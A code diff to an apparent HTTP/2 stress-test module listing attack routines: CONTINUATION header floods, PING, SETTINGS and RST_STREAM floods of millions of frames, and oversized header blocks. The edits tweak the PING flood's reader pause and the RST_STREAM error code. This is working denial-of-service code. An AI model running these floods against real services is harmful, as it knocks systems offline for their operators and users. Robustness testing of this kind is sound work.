@@ -378,9 +378,10 @@ export const ATTACKS = {
     c.frame(FRAME.HEADERS, 0, r.id, first);
     c.pump(frames(size, (i) => frame(FRAME.CONTINUATION, (i + 1) * MAX_FRAME >= size ? FLAG.END_HEADERS : 0, r.id, rest)));
   },
-  /** PINGs as fast as the socket takes them (up to 4 million), the server reading nothing meanwhile. */
+  /** PINGs as fast as the socket takes them (up to 4 million), the server reading nothing for half a second (a slow reader). */
   pingFlood: (c) => {
     c.socket.pause();
+    setTimeout(() => c.socket.resume(), 500);
     const batch = repeated(frame(FRAME.PING, 0, 0, Buffer.alloc(8)), 4096);
     c.pump(frames(4_000_000 * 17, () => batch));
   },
@@ -388,9 +389,9 @@ export const ATTACKS = {
     const batch = repeated(frame(FRAME.SETTINGS, 0, 0), 4096);
     c.pump(frames(4_000_000 * 9, () => batch));
   },
-  /** RST_STREAM for the request's stream, then for it again and again (a closed stream). */
+  /** RST_STREAM REFUSED_STREAM for the request's stream, then for it again and again (a closed stream). */
   rstFlood: (c, r) => {
-    const batch = repeated(frame(FRAME.RST_STREAM, 0, r.id, u32(8)), 4096);
+    const batch = repeated(frame(FRAME.RST_STREAM, 0, r.id, u32(7)), 4096);
     c.pump(frames(4_000_000 * 13, () => batch));
   },
   /** Response headers of 100,000 one-byte fields in one 100 KB block. */
